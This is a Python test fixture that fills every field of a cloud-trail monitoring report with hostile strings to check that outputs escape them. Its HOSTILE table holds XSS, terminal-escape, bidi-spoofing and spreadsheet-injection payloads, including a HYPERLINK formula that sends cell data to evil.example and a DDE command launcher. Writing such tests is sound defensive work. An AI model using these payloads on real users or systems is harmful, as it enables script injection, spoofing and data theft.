"""An outcome in which every text is an attack."""

from __future__ import annotations

import json
from dataclasses import replace

from tests.report.parts import (
    alarm_outcome,
    change,
    event,
    filter_outcome,
    metric_alarm,
    metric_filter,
    summary,
)
from trailwarden.errors import Location
from trailwarden.monitor.outcome import (
    Outcome,
)
from trailwarden.problems import Problem
from trailwarden.stack.model import (
    Note,
    NotRun,
    Stack,
)

HOSTILE = {
    "html": "</script><script>alert(1)</script><img src=x onerror=alert(2)>\"'&amp;",
    "escape": "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\x07\x9b1m",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide-formula": "\uff1d1+1",
    "bidi": "user/\u202egnp.exe\u2066\u200b\ufeff",
    "surrogate": "lone \ud800 and \udfff and \udc80",
    "markup": "[bold red]danger[/bold red] [link=http://evil.example]x[/link] :smile:",
    "lines": "one\ntwo\r\nthree\u2028four\x85five\x00six\x7f",
    "cjk": "ユーザー/管理者" * 20,
    "huge": "A" * 20_000,
    "comment": "<!-- ]]> --> ${x} {{x}} `x` \\",
}


def hostile_outcome() -> Outcome:
    """Every text that somebody else may write is an attack on some output."""
    texts = list(HOSTILE.values())
    events = tuple(
        replace(
            event(index, text, text, kind=text, source=text, ip=text, error=text, number=index),
            event_id=text,
            account=text,
            region=text,
            user_agent=text,
            read_only=None,
            source=text,
            raw=json.dumps({"eventName": text, text: [text, 1e300, 2**70, None]}),
        )
        for index, text in enumerate(texts)
    )
    odd = [
        ("[" * 16_000, True),
        ("[" * 5000 + "]" * 5000, False),
        ('{"a": NaN, "b": 1e999}', False),
        ("9" * 9000, False),
        ('{"a": "\ud800"}', False),
        ('{"a": "\\ud800", "\\udfff": "\\u001b[2J</script>"}', False),
        ('{"cut": "' + "x" * 16_000, True),
        ("", False),
    ]
    events += tuple(
        replace(event(90 + index, "Odd"), raw=raw, raw_cut=cut)
        for index, (raw, cut) in enumerate(odd)
    )
    filters = [
        replace(metric_filter("x", '{ $.eventName = "*" }'), filter_name=text, filter_pattern=text)
        for text in texts
    ]
    alarms = [replace(metric_alarm("x", "x"), alarm_name=text) for text in texts]
    alarms = [replace(a, alarm_description=a.alarm_name, metric_name=a.alarm_name) for a in alarms]
    places = [Location(text, 1, 2, text) for text in texts]
    return Outcome(
        stack=Stack(
            name=HOSTILE["html"],
            source=HOSTILE["escape"],
            metric_filters=tuple(filters),
            alarms=tuple(alarms),
            not_run=tuple(NotRun(at.source, at.source, at.source, at) for at in places),
            notes=tuple(Note(at.source, at.source, at) for at in places),
            region=HOSTILE["bidi"],
            account=HOSTILE["formula"],
        ),
        clock="event",
        input=summary(
            sources=tuple(texts),
            problems=tuple(Problem(text, text, text, text, 1, 2, text) for text in texts),
            skipped=dict.fromkeys(texts, 1),
        ),
        filters=tuple(filter_outcome(one, events[: len(texts)]) for one in filters),
        alarms=tuple(
            alarm_outcome(
                alarm,
                (change(200, "INSUFFICIENT_DATA", "ALARM", events, reason=alarm.alarm_name),),
                [alarm.alarm_name],
            )
            for alarm in alarms
        ),
    )
